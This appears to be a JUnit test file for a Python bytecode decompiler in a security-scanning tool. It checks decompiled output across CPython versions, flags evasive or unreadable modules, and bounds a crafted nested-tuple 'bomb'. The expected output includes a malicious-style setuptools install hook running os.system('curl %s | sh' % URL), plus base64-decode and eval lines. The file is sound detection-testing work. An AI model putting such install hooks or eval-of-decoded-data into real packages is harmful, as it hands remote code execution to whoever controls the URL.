package dev.assay.core.code.binary;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.python.PythonParser;
import dev.assay.core.python.Source;
import dev.assay.core.testing.Mutator;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// `sample.py.txt`, compiled by CPython 2.7 and 3.6 to 3.13, as text again.
class CompiledTest {
  private static final BinaryPlace PLACE = new BinaryPlace("a.pyc", List.of(), false);

  private static byte[] compiled(String version) {
    try (InputStream in = CompiledTest.class.getResourceAsStream(version + ".pyc.base64")) {
      if (in == null) {
        throw new IllegalStateException("no module compiled by " + version);
      }
      return Base64.getMimeDecoder().decode(in.readAllBytes());
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  @ParameterizedTest
  @CsvSource({
    "2.7, 8",
    "3.6, 12",
    "3.7, 16",
    "3.8, 16",
    "3.9, 16",
    "3.10, 16",
    "3.11, 16",
    "3.12, 16",
    "3.13, 16"
  })
  void writesThePythonOfEveryVersion(String version, int header) {
    byte[] bytes = compiled(version);

    Binaries.Compiled read = Binaries.compiled(bytes, PLACE);

    assertThat(read.acts()).isEmpty();
    assertThat(read.program())
        .containsSubsequence(
            "import os\n",
            "P = subprocess.Popen\n",
            "def decode(data, key, *more, **options):\n",
            "for _",
            "(b ^ key)",
            "class Custom(install, ):\n",
            "  def run(self):\n",
            "    _t",
            " = os.system(('curl %s | sh' % URL))\n",
            "    self.done = True\n",
            " = os.system(_t",
            "mode = ('w' if KEY else 'r')\n",
            "value = (_t",
            " or 'none')\n",
            "base64.b64decode('cHJpbnQoMSk=')\n",
            "eval(x)\n");
    assertThat(PythonParser.parse(Source.of(read.program())).broken()).isZero();
    assertThat(CodeObjects.python(Arrays.copyOfRange(bytes, header, bytes.length)))
        .as("the version is found without the magic number")
        .isEqualTo(Optional.of(read.program()));
  }

  @Test
  void tellsOfModulesThatNoPythonWrote() {
    byte[] bytes = compiled("3.8");
    bytes[0] = 1;
    bytes[1] = 1;

    assertThat(Binaries.compiled(bytes, PLACE).acts())
        .extracting(act -> act.kind() + " " + act.target())
        .containsExactly("EVADES obfuscator: a compiled module of no Python");
  }

  @Test
  void tellsOfModulesThatCannotBeRead() {
    assertThat(Binaries.compiled(Arrays.copyOf(compiled("3.8"), 200), PLACE).acts())
        .extracting(Act::kind)
        .containsExactly(Act.Kind.UNKNOWN);
  }

  @Test
  void neverFailsAndNeverRunsAway() {
    List<byte[]> seeds = new ArrayList<>();
    for (String version : List.of("2.7", "3.6", "3.11", "3.13")) {
      seeds.add(compiled(version));
    }
    Mutator mutator = new Mutator(5, seeds);
    for (int i = 0; i < 4_000; i++) {
      byte[] bytes = mutator.next();
      assertThat(Binaries.compiled(bytes, PLACE).program().length()).isLessThan(40 << 20);
    }
  }

  @Test
  void boundsValuesThatAreEndlessWhenWrittenOut() {
    // A tuple of two references to the tuple before it, fifty times over.
    byte[] bomb = bomb(50);

    assertThat(CodeObjects.python(bomb)).isEmpty();
  }

  private static byte[] bomb(int depth) {
    StringBuilder nested = new StringBuilder("N");
    for (int i = 0; i < depth; i++) {
      nested.insert(0, "\u00A9\u0002").append('r').append((char) (i + 1)).append("\0\0\0");
    }
    StringBuilder code = new StringBuilder("\u00E3");
    code.append("\0".repeat(20)).append("s\u0002\0\0\0d\0").append(")\u0001").append(nested);
    byte[] bytes = new byte[code.length()];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = (byte) code.charAt(i);
    }
    return bytes;
  }
}
